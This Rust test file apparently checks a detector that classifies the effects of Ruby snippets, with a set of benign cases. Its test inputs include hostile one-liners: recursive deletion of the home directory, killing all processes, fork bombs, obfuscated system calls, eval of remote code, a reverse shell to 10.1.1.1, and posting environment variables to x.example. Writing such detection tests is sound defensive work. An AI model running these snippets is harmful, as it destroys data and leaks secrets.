//! Ruby.

use super::{Language::Ruby, check};

#[test]
fn acts_of_ruby() {
    check(
        Ruby,
        &[
            ("system('rm -rf out')", &["shell rm -rf out"]),
            ("system 'rm', '-rf', 'out'", &["run rm -rf out"]),
            ("system \"rm -rf #{dir}\"", &["shell rm -rf $unknown"]),
            ("puts `halt`", &["shell halt"]),
            ("%x(rm -rf out)", &["shell rm -rf out"]),
            ("exec \"halt\"", &["shell halt"]),
            ("Kernel.system('halt')", &["shell halt"]),
            ("IO.popen('halt').read", &["shell halt"]),
            ("IO.popen(['rm', '-rf', 'out'])", &["run rm -rf out"]),
            ("require 'open3'; Open3.capture2e('rm', '-rf', 'out')", &["run rm -rf out"]),
            ("require 'fileutils'; FileUtils.rm_rf('out')", &["same rm -r -f out"]),
            ("require 'fileutils'\nFileUtils.rm_rf %w[a b]", &["same rm -r -f a b"]),
            ("include FileUtils; rm_rf 'out'", &["same rm -r -f out"]),
            ("Dir.glob('*.o').each { |f| File.delete(f) }", &["same rm *.o"]),
            ("Dir['*.o'].each do |f|\n  File.delete f\nend", &["same rm *.o"]),
            ("%w[a b].each { |d| system(\"rm -r #{d}\") }", &["shell rm -r a", "shell rm -r b"]),
            ("File.write('/etc/motd', 'x')", &["write /etc/motd"]),
            ("File.open('/etc/motd', 'w') { |f| f.puts 'x' }", &["write /etc/motd"]),
            ("File.open('a.log', 'a') { |f| f << 'x' }", &["append a.log"]),
            ("FileUtils.rm_rf(Dir.home)", &["same rm -r -f $HOME"]),
            ("FileUtils.rm_rf(ENV['HOME'])", &["same rm -r -f $HOME"]),
            ("require 'pathname'; Pathname.new('out').rmtree", &["same rm -r -f out"]),
            ("Process.kill('KILL', -1)", &["same kill -KILL -1"]),
            ("Process.kill(9, -1)", &["same kill -9 -1"]),
            ("fork while fork", &["bomb"]),
            ("loop { fork }", &["bomb"]),
            ("loop do\n  fork\nend", &["bomb"]),
            ("eval \"system('halt')\"", &["shell halt"]),
            ("send(:system, 'halt')", &["shell halt"]),
            ("Kernel.send('sys' + 'tem', 'halt')", &["shell halt"]),
            ("method(:system).call('halt')", &["shell halt"]),
            ("require 'base64'; system(Base64.decode64('aGFsdA=='))", &["shell halt"]),
            ("system(['68616c74'].pack('H*'))", &["shell halt"]),
            ("system('aGFsdA=='.unpack1('m'))", &["shell halt"]),
            ("open('|halt').read", &["shell halt"]),
            ("system('tlah'.reverse)", &["shell halt"]),
            (
                "require 'open-uri'; eval(URI.open('https://x.example/a').read)",
                &["same curl https://x.example/a", "shell curl 'https://x.example/a' | ruby", "unknown"],
            ),
            (
                "require 'socket';f=TCPSocket.open('10.1.1.1',9001).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
                &["shell /bin/sh -i <&$unknown >&$unknown 2>&$unknown", "reverse"],
            ),
            (
                "require 'net/http'; Net::HTTP.post(URI('https://x.example'), ENV.to_h.to_s)",
                &["shell env | curl -d @- 'https://x.example'", "same curl -X POST https://x.example"],
            ),
        ],
    );
}

#[test]
fn harmless() {
    check(
        Ruby,
        &[
            ("puts 'rm -rf /'", &[]),
            ("# system('halt')\nputs 1", &[]),
            ("puts \"system('halt') #{1 + 1}\"", &[]),
            ("puts [1, 2, 3].map { |x| x * 2 }.sum", &[]),
            ("require 'json'; puts JSON.parse(File.read('package.json'))['version']", &["read package.json"]),
            ("require 'json'; puts JSON.parse(STDIN.read)['name']", &[]),
            ("puts RUBY_VERSION", &[]),
            ("puts ENV['PATH'] ? 'yes' : 'no'", &[]),
            ("x = <<~EOT\n  system('halt')\nEOT\nputs x", &[]),
            ("h = { system: 1, 'exec' => 2 }; puts h[:system]", &[]),
            ("puts 'a'.gsub(/rm -rf/, 'trash')", &[]),
            ("def system_name; 'x'; end; puts system_name", &[]),
            ("puts %w[rm -rf /].join(' ')", &[]),
            ("=begin\nsystem('halt')\n=end\nputs 1", &[]),
        ],
    );
}
